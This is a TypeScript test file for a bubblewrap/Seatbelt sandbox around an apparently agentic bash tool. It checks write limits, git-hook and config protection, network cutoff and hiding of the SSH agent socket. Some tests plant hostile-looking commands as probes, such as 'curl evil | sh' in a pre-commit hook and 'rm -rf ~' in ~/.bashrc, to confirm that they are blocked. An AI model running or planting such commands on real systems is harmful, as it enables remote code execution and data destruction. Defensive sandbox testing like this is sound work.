import assert from "node:assert/strict";
import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, readFileSync } from "node:fs";
import { chmod, mkdir, mkdtemp, readdir, realpath, rm, stat, symlink, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, it, type TestContext } from "node:test";
import { waitNoneNamed } from "../../test/support/processes.ts";
import { type BashDetails, createBashTool } from "../tools/bash.ts";
import {
  type AvailableSandbox,
  describeSandbox,
  detectSandbox,
  type SandboxSpec,
  type SandboxStatus,
  sandboxWrapper,
  wrapCommand,
} from "./sandbox.ts";
import { createWorkspace } from "./workspace.ts";

const HAS_GIT = spawnSync("git", ["--version"]).status === 0;

function listen(server: Server, target: number | string): Promise<void> {
  return new Promise((done) => {
    if (typeof target === "number") server.listen(target, "127.0.0.1", done);
    else server.listen(target, done);
  });
}

describe("sandbox detection", () => {
  it("reports unavailable with a reason when bwrap is not on PATH", async () => {
    const empty = await mkdtemp(join(tmpdir(), "hearth-nopath-"));
    try {
      const status = await detectSandbox({ PATH: empty }, "linux");
      assert.equal(status.available, false);
      assert.match((status as { reason: string }).reason, /bubblewrap \(bwrap\) is not on PATH/);
      assert.match(describeSandbox(status), /^no OS sandbox: .*Commands run unsandboxed/);
      assert.equal(await detectSandbox({ PATH: empty }, "linux"), status, "cached per process");
    } finally {
      await rm(empty, { recursive: true, force: true });
    }
  });

  it("says why when bwrap is there but cannot start a sandbox", async () => {
    const dir = await mkdtemp(join(tmpdir(), "hearth-fakebwrap-"));
    try {
      const script = '#!/bin/sh\necho "bwrap: setting up uid map: Permission denied" >&2\nexit 1\n';
      await writeFile(join(dir, "bwrap"), script, { mode: 0o755 });
      const status = await detectSandbox({ PATH: dir }, "linux");
      assert.equal(status.available, false);
      assert.match(
        (status as { reason: string }).reason,
        /^bwrap could not start a sandbox \(bwrap: setting up uid map: Permission denied\); user namespaces/,
      );
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it("falls back to the host's /proc when a fresh one cannot be mounted", async (t) => {
    const real = await detectSandbox(process.env);
    if (!real.available || real.kind !== "bwrap") return t.skip("bwrap not installed");
    const dir = await mkdtemp(join(tmpdir(), "hearth-noproc-"));
    try {
      const script =
        '#!/bin/sh\nfor a; do [ "$a" = --proc ] && { echo "bwrap: Can\'t mount proc" >&2; exit 1; }; done\n' +
        `exec "${real.path}" "$@"\n`;
      await writeFile(join(dir, "bwrap"), script, { mode: 0o755 });
      const status = await detectSandbox({ ...process.env, PATH: `${dir}:${process.env.PATH}` }, "linux");
      assert.deepEqual(status, { ...real, path: join(dir, "bwrap"), mountProc: false });
      const { file, args } = wrapCommand({
        workspaceRoot: dir,
        writableRoots: [],
        allowNetwork: false,
        tmpDir: dir,
        sandbox: status as AvailableSandbox,
        command: "grep -q ^Pid: /proc/self/status",
      });
      assert.ok(!args.includes("--proc"));
      const result = spawnSync(file, args, { encoding: "utf8", stdio: ["ignore", "pipe", "pipe"] });
      assert.equal(result.status, 0, result.stderr);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it("leaves nothing in the temp dir after its trial run", async (t) => {
    if (process.platform !== "linux" || spawnSync("bwrap", ["--version"]).error)
      return t.skip("bwrap not installed");
    const tmp = await mkdtemp(join(tmpdir(), "hearth-trial-tmp-"));
    const fresh = await mkdtemp(join(tmpdir(), "hearth-trial-path-"));
    try {
      // A PATH of its own, so that detection runs again instead of answering from the cache.
      const status = await detectSandbox({
        ...process.env,
        TMPDIR: tmp,
        PATH: `${fresh}:${process.env.PATH}`,
      });
      assert.equal(status.available, true);
      assert.deepEqual(await readdir(tmp), []);
    } finally {
      await rm(tmp, { recursive: true, force: true });
      await rm(fresh, { recursive: true, force: true });
    }
  });

  it("reports unavailable on a platform without a sandbox", async () => {
    const status = await detectSandbox({ PATH: process.env.PATH }, "win32");
    assert.deepEqual(status, { available: false, reason: "no OS sandbox is supported on win32" });
  });

  it("builds a Seatbelt invocation with paths passed as parameters (untested on a mac)", async () => {
    const dir = await realpath(await mkdtemp(join(tmpdir(), "hearth-sb-")));
    try {
      await mkdir(join(dir, ".git"));
      const sandbox: AvailableSandbox = {
        available: true,
        kind: "seatbelt",
        path: "/usr/bin/sandbox-exec",
        mountProc: false,
        experimental: true,
      };
      const spec = { workspaceRoot: dir, writableRoots: [], allowNetwork: false, tmpDir: dir, hostEnv: {} };
      const { file, args } = wrapCommand({ ...spec, sandbox, command: "echo 'hi'" });
      assert.equal(file, "/usr/bin/sandbox-exec");
      assert.equal(args[0], "-p");
      assert.match(args[1], /^\(version 1\)\n\(allow default\)\n\(deny file-write\*\)/);
      assert.match(args[1], /\(deny network\*\)/);
      assert.ok(!args[1].includes(dir), "no path is quoted into the profile");
      const values = args.flatMap((arg, i) => (args[i - 1] === "-D" ? [arg] : []));
      const missing = [
        ".git/hooks",
        ".git/config",
        ".hearth",
        ".mcp.json",
        ".vscode",
        ".idea",
        ".envrc",
        ".claude",
      ];
      // Writable: temp and the workspace; write-denied: every protected name (missing ones at their first
      // missing folder); no rename of `.git`.
      const expected = [dir, dir, ...missing.map((name) => join(dir, name)), join(dir, ".git")];
      assert.deepEqual(
        values,
        expected.map((path, i) => `P${i}=${path}`),
      );
      assert.deepEqual(args.slice(-3), ["bash", "-c", "echo 'hi'"]);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe("bubblewrap sandbox", () => {
  let status: SandboxStatus;
  let sandbox: AvailableSandbox | undefined;
  let base: string;
  let ws: string;
  let home: string;
  let tmp: string;
  let extra: string;
  let env: Record<string, string>;
  let spec: SandboxSpec;

  /** Skips the test (and says why) when there is no sandbox; returns it otherwise. */
  const need = (t: TestContext): AvailableSandbox | undefined => {
    if (sandbox) return sandbox;
    if (status.available) t.skip(`not bwrap but ${status.kind}`);
    else t.skip(/not on PATH/.test(status.reason) ? "bwrap not installed" : status.reason);
    return undefined;
  };
  const run = (box: AvailableSandbox, command: string, overrides: Partial<SandboxSpec> = {}) => {
    const { file, args } = wrapCommand({ ...spec, ...overrides, sandbox: box, command });
    // stdin from /dev/null as in the bash tool: on a socket (node's default pipe), bash reads ~/.bashrc.
    const result = spawnSync(file, args, {
      cwd: ws,
      env,
      encoding: "utf8",
      stdio: ["ignore", "pipe", "pipe"],
    });
    return { status: result.status, output: result.stdout + result.stderr };
  };

  before(async () => {
    status = await detectSandbox(process.env);
    if (status.available && status.kind === "bwrap") sandbox = status;
    base = await realpath(await mkdtemp(join(tmpdir(), "hearth-sandbox-")));
    ws = join(base, "ws");
    home = join(base, "home");
    tmp = join(base, "tmp");
    extra = join(base, "extra");
    for (const dir of [ws, home, tmp, extra]) await mkdir(dir);
    await writeFile(join(home, ".bashrc"), "sentinel\n");
    env = { PATH: process.env.PATH ?? "/usr/bin:/bin", HOME: home, LANG: "C" };
    spec = {
      workspaceRoot: ws,
      writableRoots: [extra],
      allowNetwork: false,
      tmpDir: tmp,
      hostEnv: { HOME: home },
    };
  });
  after(async () => {
    await rm(base, { recursive: true, force: true });
  });

  it("is detected here", (t) => {
    if (process.platform !== "linux" || spawnSync("bwrap", ["--version"]).error) {
      return t.skip("bwrap not installed");
    }
    assert.equal(status.available, true, describeSandbox(status));
    assert.match(describeSandbox(status), /bubblewrap sandbox/);
  });

  it("lets a command write inside the workspace, extra roots and temp, starting in the workspace", (t) => {
    const box = need(t);
    if (!box) return;
    const result = run(box, `pwd; echo ok > made.txt; echo x > "${extra}/e.txt"; mktemp; echo "$TMPDIR"`);
    assert.equal(result.status, 0, result.output);
    const lines = result.output.trim().split("\n");
    assert.equal(lines[0], ws);
    assert.ok(lines[1].startsWith(`${tmp}/`), lines[1]);
    assert.equal(lines[2], tmp);
    assert.equal(readFileSync(join(ws, "made.txt"), "utf8"), "ok\n");
    assert.equal(readFileSync(join(extra, "e.txt"), "utf8"), "x\n");
  });

  it("keeps HOME outside the workspace readable but not writable", (t) => {
    const box = need(t);
    if (!box) return;
    const result = run(box, 'cat ~/.bashrc; echo "rm -rf ~" >> ~/.bashrc; touch ~/new');
    assert.notEqual(result.status, 0);
    assert.match(result.output, /^sentinel\n/);
    assert.match(result.output, /\.bashrc: Read-only file system/);
    assert.match(result.output, /new'?: Read-only file system/);
    assert.equal(readFileSync(join(home, ".bashrc"), "utf8"), "sentinel\n");
    assert.equal(existsSync(join(home, "new")), false);
  });

  it("keeps HOME read-only even when it lies inside the temp dir", (t) => {
    const box = need(t);
    if (!box) return;
    const result = run(box, 'echo x >> ~/.bashrc; echo y > "$TMPDIR/in-tmp.txt"', { tmpDir: base });
    assert.match(result.output, /\.bashrc: Read-only file system/);
    assert.equal(readFileSync(join(home, ".bashrc"), "utf8"), "sentinel\n");
    assert.equal(readFileSync(join(base, "in-tmp.txt"), "utf8"), "y\n");
  });

  it("refuses writes outside the writable roots and to readOnlyPaths", async (t) => {
    const box = need(t);
    if (!box) return;
    const locked = join(ws, "locked");
    await mkdir(locked);
    await writeFile(join(locked, "f"), "kept\n");
    const result = run(box, `echo x > "${base}/outside.txt"; echo x > locked/f; echo x > /etc/hearth-probe`, {
      readOnlyPaths: [locked, join(ws, "missing")],
    });
    assert.equal((result.output.match(/Read-only file system/g) ?? []).length, 3, result.output);
    assert.equal(existsSync(join(base, "outside.txt")), false);
    assert.equal(readFileSync(join(locked, "f"), "utf8"), "kept\n");
  });

  it("drops every capability, so even root cannot remount / read-write", (t) => {
    const box = need(t);
    if (!box) return;
    const result = run(box, "grep CapEff /proc/self/status; mount -o remount,rw / 2>&1; touch /hearth-probe");
    assert.match(result.output, /CapEff:\s+0+\n/);
    assert.match(result.output, /Read-only file system/);
    assert.equal(existsSync("/hearth-probe"), false);
  });

  it("keeps .git/hooks and .git/config read-only while git itself works", async (t) => {
    const box = need(t);
    if (!box) return;
    if (!HAS_GIT) return t.skip("git not installed");
    const repo = join(base, "repo");
    await mkdir(repo);
    execFileSync("git", ["init", "-q", repo]);
    const config = readFileSync(join(repo, ".git", "config"), "utf8");
    const result = run(
      box,
      [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "echo '[core] hooksPath = x' >> .git/config",
        "git config core.hooksPath x",
        "mv .git/hooks .git/h2",
        "mv .git moved",
        "echo hi > a && git add a && git -c user.name=t -c user.email=t@t commit -qm first && echo committed",
      ].join("; "),
      { workspaceRoot: repo },
    );
    assert.match(result.output, /pre-commit: Read-only file system/);
    assert.match(result.output, /\.git\/config: Read-only file system|could not lock config file/);
    assert.match(result.output, /committed/);
    assert.equal(existsSync(join(repo, ".git", "hooks", "pre-commit")), false);
    assert.equal(existsSync(join(repo, "moved")), false);
    assert.equal(readFileSync(join(repo, ".git", "config"), "utf8"), config);
  });

  it("does not let a command create the first hook when .git/hooks is missing", async (t) => {
    const box = need(t);
    if (!box) return;
    const repo = join(base, "nohooks");
    await mkdir(join(repo, ".git"), { recursive: true });
    const result = run(box, "mkdir -p .git/hooks && echo x > .git/hooks/post-checkout; ls -A .git/hooks", {
      workspaceRoot: repo,
    });
    assert.match(result.output, /Read-only file system/);
    assert.deepEqual(await readdir(join(repo, ".git", "hooks")), []);
  });

  it("turns the network off (even loopback) unless allowed", async (t) => {
    const box = need(t);
    if (!box) return;
    const server = createServer((socket) => socket.end("hello\n"));
    await listen(server, 0);
    try {
      const port = (server.address() as { port: number }).port;
      const probe = `exec 3<>/dev/tcp/127.0.0.1/${port} && echo connected`;
      const outside = spawnSync("bash", ["-c", probe], { encoding: "utf8" });
      assert.equal(outside.stdout, "connected\n", "the server is reachable without the sandbox");
      const inside = run(box, probe);
      assert.notEqual(inside.status, 0);
      assert.match(inside.output, /Connection refused|Network is unreachable/);
      const allowed = run(box, probe, { allowNetwork: true });
      assert.equal(allowed.output, "connected\n");
    } finally {
      server.close();
    }
  });

  it("hides the SSH agent socket and the runtime dir", async (t) => {
    const box = need(t);
    if (!box) return;
    const sockDir = join(base, "sock");
    const runtime = join(base, "runtime");
    await mkdir(sockDir);
    await mkdir(runtime);
    await writeFile(join(runtime, "bus"), "secret\n");
    await chmod(runtime, 0o700);
    const socketPath = join(sockDir, "agent.sock");
    const server = createServer((socket) => socket.end());
    await listen(server, socketPath);
    try {
      const connect =
        `"${process.execPath}" -e 'require("net").connect(process.argv[1])` +
        `.on("connect",()=>{console.log("connected");process.exit(0)}).on("error",(e)=>{console.log(e.code);process.exit(3)})'` +
        ` "${socketPath}"`;
      const plain = run(box, connect);
      assert.equal(plain.output.trim(), "connected", "reachable when nobody says it is the agent");
      const hostEnv = { HOME: home, SSH_AUTH_SOCK: socketPath, XDG_RUNTIME_DIR: runtime };
      const hidden = run(box, `${connect}; ls -A "${runtime}"`, { hostEnv });
      assert.match(hidden.output, /^ECONNREFUSED\n$/);
    } finally {
      server.close();
    }
  });

  it("resolves symlinked roots to their real paths", async (t) => {
    const box = need(t);
    if (!box) return;
    const link = join(base, "ws-link");
    await symlink(ws, link);
    const result = run(box, "echo linked > via-link.txt", { workspaceRoot: link });
    assert.equal(result.status, 0, result.output);
    assert.equal(readFileSync(join(ws, "via-link.txt"), "utf8"), "linked\n");
  });

  it("costs little per command (median of 20 runs of `true`)", (t) => {
    const box = need(t);
    if (!box) return;
    const { file, args } = wrapCommand({ ...spec, sandbox: box, command: "true" });
    const median = (times: number[]) => times.sort((a, b) => a - b)[times.length >> 1];
    const plain: number[] = [];
    const boxed: number[] = [];
    for (let i = 0; i < 20; i++) {
      let started = performance.now();
      spawnSync("bash", ["-c", "true"], { cwd: ws, env });
      plain.push(performance.now() - started);
      started = performance.now();
      const result = spawnSync(file, args, { cwd: ws, env });
      boxed.push(performance.now() - started);
      assert.equal(result.status, 0, String(result.stderr));
    }
    const overhead = median(boxed) - median(plain);
    t.diagnostic(
      `bash -c true: ${median(plain).toFixed(1)} ms; in bwrap: ${median(boxed).toFixed(1)} ms; ` +
        `overhead ${overhead.toFixed(1)} ms`,
    );
    assert.ok(overhead < 250, `sandbox overhead ${overhead.toFixed(1)} ms`);
  });

  describe("through the bash tool", () => {
    const tool = (box: AvailableSandbox) =>
      createBashTool({
        workspace: createWorkspace({ root: ws }),
        env,
        spillDir: join(base, "spill"),
        wrap: sandboxWrapper(box, spec),
      });
    const call = (box: AvailableSandbox, args: Record<string, unknown>, signal?: AbortSignal) =>
      tool(box).execute(args, { signal: signal ?? new AbortController().signal, callId: "call_1" });

    it("runs commands in the sandbox and keeps stderr merged", async (t) => {
      const box = need(t);
      if (!box) return;
      const result = await call(box, { command: "pwd; echo err >&2; touch ~/x" });
      assert.equal(result.isError, true);
      assert.match(
        result.content,
        new RegExp(`^${ws}\nerr\ntouch: .*Read-only file system\n\n\\(exit code 1\\)$`),
      );
    });

    // In the pid namespace `$!` is not a host pid: the grandchild is found by a name given with `exec -a`.
    const grandchild = (marker: string) => `(exec -a ${marker} sleep 100) & sleep 100`;

    it("times out and kills grandchildren", async (t) => {
      const box = need(t);
      if (!box) return;
      const marker = `hearth-sandbox-timeout-${process.pid}`;
      const started = Date.now();
      const result = await call(box, { command: grandchild(marker), timeout: 1 });
      assert.ok(Date.now() - started < 2500, `took ${Date.now() - started} ms`);
      assert.equal((result.details as BashDetails).timedOut, true);
      assert.ok(await waitNoneNamed(marker, 1500), `${marker} still running`);
    });

    it("stops on abort, grandchildren included", async (t) => {
      const box = need(t);
      if (!box) return;
      const marker = `hearth-sandbox-abort-${process.pid}`;
      const controller = new AbortController();
      setTimeout(() => controller.abort(), 300);
      const result = await call(box, { command: grandchild(marker) }, controller.signal);
      assert.equal((result.details as BashDetails).interrupted, true);
      assert.ok(await waitNoneNamed(marker, 1500), `${marker} still running`);
    });

    it("still caps and spills 50 MB of output", async (t) => {
      const box = need(t);
      if (!box) return;
      const started = Date.now();
      const result = await call(box, { command: "head -c 50000000 /dev/zero | tr '\\0' 'x'" });
      assert.ok(Date.now() - started < 15_000, `took ${Date.now() - started} ms`);
      const details = result.details as BashDetails;
      assert.equal(details.totalBytes, 50_000_000);
      assert.ok((await stat(details.spillPath!)).size < 17 * 1024 * 1024, "the spill file is capped");
      assert.ok(result.content.length < 40_000, `content is ${result.content.length} chars`);
      assert.ok(result.content.includes("(exit code 0)"), result.content.slice(-400));
      await rm(details.spillPath!);
    });

    it("reports a wrapper that throws as a start failure", async () => {
      const broken = createBashTool({
        workspace: createWorkspace({ root: ws }),
        env,
        spillDir: join(base, "spill"),
        wrap: () => {
          throw new Error("no workspace");
        },
      });
      const result = await broken.execute(
        { command: "true" },
        { signal: new AbortController().signal, callId: "c" },
      );
      assert.equal(result.isError, true);
      assert.match(result.content, /could not start bash: no workspace/);
    });
  });
});
